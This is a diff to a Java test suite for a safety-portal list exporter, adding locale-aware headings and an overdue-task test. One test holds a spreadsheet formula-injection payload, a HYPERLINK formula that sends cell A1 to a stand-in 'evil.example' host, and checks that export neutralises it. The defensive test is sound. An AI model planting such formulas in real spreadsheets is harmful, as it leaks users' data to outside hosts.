@@ -9,8 +9,11 @@ import io.micronaut.context.ApplicationContext;
 import java.io.ByteArrayInputStream;
 import java.io.IOException;
 import java.nio.charset.StandardCharsets;
+import java.time.Clock;
+import java.time.Duration;
 import java.time.Instant;
 import java.time.LocalDate;
+import java.time.ZoneOffset;
 import java.util.ArrayList;
 import java.util.Arrays;
 import java.util.LinkedHashMap;
@@ -38,12 +41,14 @@ import org.safetyportal.content.lists.ListPublishing;
 import org.safetyportal.content.lists.ListType;
 import org.safetyportal.content.lists.ListVersion;
 import org.safetyportal.content.lists.ListVersionApproval;
+import org.safetyportal.content.lists.TaskStatus;
 import org.safetyportal.content.organization.OrganizationDirectory;
 import org.safetyportal.content.organization.ReferenceDataLoader;
 import org.safetyportal.content.testing.ModuleContext;
 import org.safetyportal.content.testing.MutableClock;
 import org.safetyportal.content.testing.OnEveryTestDatabase;
 import org.safetyportal.content.testing.TestDatabase;
+import org.safetyportal.i18n.SupportedLocales;
 
 class ListExportsTest {
 
@@ -121,11 +126,11 @@ class ListExportsTest {
             List<ListVersion> versions = world.catalogue().current();
             assertTrue(versions.size() >= 5, "demo versions: " + versions.size());
             for (ListVersion version : versions) {
-                byte[] csv = world.exports().export(version, ExportFormat.CSV).bytes();
+                byte[] csv = world.exports().export(version, ExportFormat.CSV, SupportedLocales.CHINESE).bytes();
 
                 assertArrayEquals(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, Arrays.copyOf(csv, 3), "UTF-8 byte order mark");
                 List<List<String>> records = CsvReader.read(new String(csv, StandardCharsets.UTF_8).substring(BOM.length()));
-                assertEquals(DataDictionary.itemFieldNames(), records.get(0));
+                assertEquals(DataDictionary.itemFieldNames(), HeadingRow.fieldNames(records.get(0)));
                 assertEquals(cells(world.catalogue().items(version)), records.subList(1, records.size()), version.ledgerSubject());
                 assertEquals(version.contentHash(), hashOf(version, records), "the CSV holds every item losslessly");
             }
@@ -136,7 +141,7 @@ class ListExportsTest {
     void csvQuotesCommasQuotesAndLineBreaks_andKeepsAnEmptyTextApartFromNone(String kind) {
         try (World world = World.start(kind)) {
             ListVersion version = world.publishResponsibilities(List.of(AWKWARD));
-            String csv = new String(world.exports().export(version, ExportFormat.CSV).bytes(), StandardCharsets.UTF_8);
+            String csv = new String(world.exports().export(version, ExportFormat.CSV, SupportedLocales.CHINESE).bytes(), StandardCharsets.UTF_8);
 
             assertTrue(csv.contains(",\"危险化学品、烟花爆竹, \"\"两重点一重大\"\" 🔥\","), csv);
             assertTrue(csv.contains(",市应急管理局,\"\",\""), "empty stages are a quoted empty field: " + csv);
@@ -156,19 +161,20 @@ class ListExportsTest {
     void csvNeutralisesFormulas_andTheHashRebuiltFromTheFileStillMatches(String kind) {
         try (World world = World.start(kind)) {
             ListVersion version = world.publishResponsibilities(List.of(FORMULA));
-            String csv = new String(world.exports().export(version, ExportFormat.CSV).bytes(), StandardCharsets.UTF_8);
+            String csv = new String(world.exports().export(version, ExportFormat.CSV, SupportedLocales.CHINESE).bytes(), StandardCharsets.UTF_8);
 
             List<List<String>> records = CsvReader.read(csv.substring(BOM.length()));
             List<String> row = records.get(1);
             for (String field : List.of("title", "legalBasis", "responsibleBody", "stages", "accountability")) {
-                assertTrue(row.get(records.get(0).indexOf(field)).startsWith("'"), field + ": " + row);
+                assertTrue(row.get(HeadingRow.fieldNames(records.get(0)).indexOf(field)).startsWith("'"), field + ": " + row);
             }
-            assertEquals("'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击查看\")", row.get(records.get(0).indexOf("title")));
+            assertEquals("'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击查看\")", row.get(HeadingRow.fieldNames(records.get(0)).indexOf("title")));
             assertEquals(version.contentHash(), hashOf(version, withoutAddedQuotes(records)),
                     "removing the one added quote gives back the published content");
 
             ItemSetExport items = world.context.getBean(ItemSetExports.class).export(
-                    ItemFilter.parse(Map.of("listType", "RESPONSIBILITY", "sector", "HAZARDOUS_CHEMICALS")), ExportFormat.CSV);
+                    ItemFilter.parse(Map.of("listType", "RESPONSIBILITY", "sector", "HAZARDOUS_CHEMICALS")), ExportFormat.CSV,
+                    SupportedLocales.CHINESE);
             String itemCsv = new String(items.bytes(), StandardCharsets.UTF_8);
             assertTrue(itemCsv.contains("\"'=HYPERLINK("), itemCsv);
             assertTrue(!itemCsv.contains(",\"=HYPERLINK(") && !itemCsv.contains(",=HYPERLINK("), itemCsv);
@@ -190,12 +196,13 @@ class ListExportsTest {
         try (World world = World.start(kind)) {
             ListVersion version = world.publishResponsibilities(List.of(AWKWARD, world.catalogue().items(
                     world.current(ListType.RESPONSIBILITY)).get(0)));
-            ListExport export = world.exports().export(version, ExportFormat.XLSX);
+            ListExport export = world.exports().export(version, ExportFormat.XLSX, SupportedLocales.CHINESE);
 
             try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(export.bytes()))) {
                 assertEquals(List.of("items", "about"), List.of(workbook.getSheetName(0), workbook.getSheetName(1)));
+                assertEquals("名称 (title)", workbook.getSheet("items").getRow(0).getCell(1).getStringCellValue());
                 List<List<String>> rows = rows(workbook.getSheet("items"), DataDictionary.itemFieldNames().size());
-                assertEquals(DataDictionary.itemFieldNames(), rows.get(0));
+                assertEquals(DataDictionary.itemFieldNames(), HeadingRow.fieldNames(rows.get(0)));
                 assertEquals(cells(world.catalogue().items(version)), rows.subList(1, rows.size()));
 
                 Map<String, String> about = about(workbook.getSheet("about"));
@@ -221,7 +228,7 @@ class ListExportsTest {
     void json_carriesTheContentExactlyAsTheLedgerHashedIt(String kind) {
         try (World world = World.start(kind)) {
             ListVersion version = world.publishResponsibilities(List.of(AWKWARD));
-            String json = new String(world.exports().export(version, ExportFormat.JSON).bytes(), StandardCharsets.UTF_8);
+            String json = new String(world.exports().export(version, ExportFormat.JSON, SupportedLocales.CHINESE).bytes(), StandardCharsets.UTF_8);
 
             String prefix = "{\"content\":";
             String afterContent = ",\"contentHash\":\"" + version.contentHash() + "\"";
@@ -242,11 +249,40 @@ class ListExportsTest {
             ListVersion responsibilities = world.current(ListType.RESPONSIBILITY);
             ListVersion tasks = world.current(ListType.ANNUAL_TASKS);
 
-            assertEquals("JC-EMERGENCY_RESPONSIBILITY_v1.xlsx", world.exports().export(responsibilities, ExportFormat.XLSX).fileName());
-            assertEquals("JC-EMERGENCY_ANNUAL_TASKS_2026_v1.json", world.exports().export(tasks, ExportFormat.JSON).fileName());
+            assertEquals("JC-EMERGENCY_RESPONSIBILITY_v1.xlsx", world.exports().export(responsibilities, ExportFormat.XLSX, SupportedLocales.CHINESE).fileName());
+            assertEquals("JC-EMERGENCY_ANNUAL_TASKS_2026_v1.json", world.exports().export(tasks, ExportFormat.JSON, SupportedLocales.CHINESE).fileName());
             assertEquals("JC-EMERGENCY_RESPONSIBILITY_v1_list-version-" + responsibilities.id() + "_content-sha256-"
                             + responsibilities.contentHash() + ".csv",
-                    world.exports().export(responsibilities, ExportFormat.CSV).fileName());
+                    world.exports().export(responsibilities, ExportFormat.CSV, SupportedLocales.CHINESE).fileName());
+        }
+    }
+
+    /**
+     * An English reader's file of annual tasks: headings in English, and after each task's fields its
+     * standing on the file's day, OVERDUE once a deadline passed uncompleted whatever was published.
+     */
+    @OnEveryTestDatabase
+    void anItemSetInEnglish_isHeadedInEnglish_andSaysWhichTasksAreOverdueOnItsDay(String kind) {
+        try (World world = World.start(kind)) {
+            List<ListItem> tasks = world.catalogue().items(world.current(ListType.ANNUAL_TASKS));
+            ListItem open = tasks.stream().filter(t -> t.taskStatus() != TaskStatus.COMPLETED && t.deadline() != null)
+                    .findFirst().orElseThrow(() -> new AssertionError("the demo tasks include an open one with a deadline"));
+            MutableClock clock = (MutableClock) world.context().getBean(Clock.class);
+            clock.advance(Duration.between(Instant.parse("2026-03-05T02:00:00Z"),
+                    open.deadline().plusDays(2).atStartOfDay(ZoneOffset.UTC).toInstant()));
+
+            ItemSetExport export = world.context().getBean(ItemSetExports.class).export(
+                    ItemFilter.parse(Map.of("listType", "ANNUAL_TASKS", "department", "JC-EMERGENCY")), ExportFormat.CSV,
+                    SupportedLocales.ENGLISH);
+
+            List<List<String>> records = CsvReader.read(new String(export.bytes(), StandardCharsets.UTF_8).substring(BOM.length()));
+            List<String> header = records.get(0);
+            assertEquals("Department code (department)", header.get(0));
+            assertEquals("Standing (as of the file) (taskStanding)", header.get(header.size() - 1));
+            List<String> names = HeadingRow.fieldNames(header);
+            List<String> row = records.stream().filter(r -> open.code().equals(r.get(names.indexOf("code")))).findFirst().orElseThrow();
+            assertEquals(open.taskStatus().name(), row.get(names.indexOf("taskStatus")), "the status as published");
+            assertEquals("OVERDUE", row.get(names.indexOf("taskStanding")), "its standing on the file's day");
         }
     }
 
@@ -258,7 +294,7 @@ class ListExportsTest {
                     .startDraft(accounts.actor("publisher"), world.emergency(), ListType.RESPONSIBILITY, 0);
 
             assertTrue(world.catalogue().version(draft.id()).isEmpty());
-            assertThrows(IllegalArgumentException.class, () -> world.exports().export(draft, ExportFormat.CSV));
+            assertThrows(IllegalArgumentException.class, () -> world.exports().export(draft, ExportFormat.CSV, SupportedLocales.CHINESE));
         }
     }
 
@@ -275,7 +311,7 @@ class ListExportsTest {
 
     /** The SHA-256 of the version's canonical content rebuilt from the exported records alone. */
     private static String hashOf(ListVersion version, List<List<String>> records) {
-        List<String> names = records.get(0);
+        List<String> names = HeadingRow.fieldNames(records.get(0));
         List<Map<String, Object>> items = new ArrayList<>();
         for (List<String> record : records.subList(1, records.size())) {
             Map<String, Object> item = new LinkedHashMap<>();
@@ -318,7 +354,7 @@ class ListExportsTest {
     /** The value of an about row exactly as the file's XML holds it, as a reader of the XML sees it. */
     private static String rawValue(Sheet sheet, String name) {
         for (Row row : sheet) {
-            if (row.getCell(0).getStringCellValue().equals(name)) {
+            if (HeadingRow.fieldName(row.getCell(0).getStringCellValue()).equals(name)) {
                 return ((org.apache.poi.xssf.usermodel.XSSFCell) row.getCell(1)).getCTCell().getV();
             }
         }
@@ -329,7 +365,7 @@ class ListExportsTest {
         DataFormatter formatter = new DataFormatter();
         Map<String, String> about = new LinkedHashMap<>();
         for (Row row : sheet) {
-            about.put(row.getCell(0).getStringCellValue(), row.getCell(1) == null ? null : formatter.formatCellValue(row.getCell(1)));
+            about.put(HeadingRow.fieldName(row.getCell(0).getStringCellValue()), row.getCell(1) == null ? null : formatter.formatCellValue(row.getCell(1)));
         }
         return about;
     }
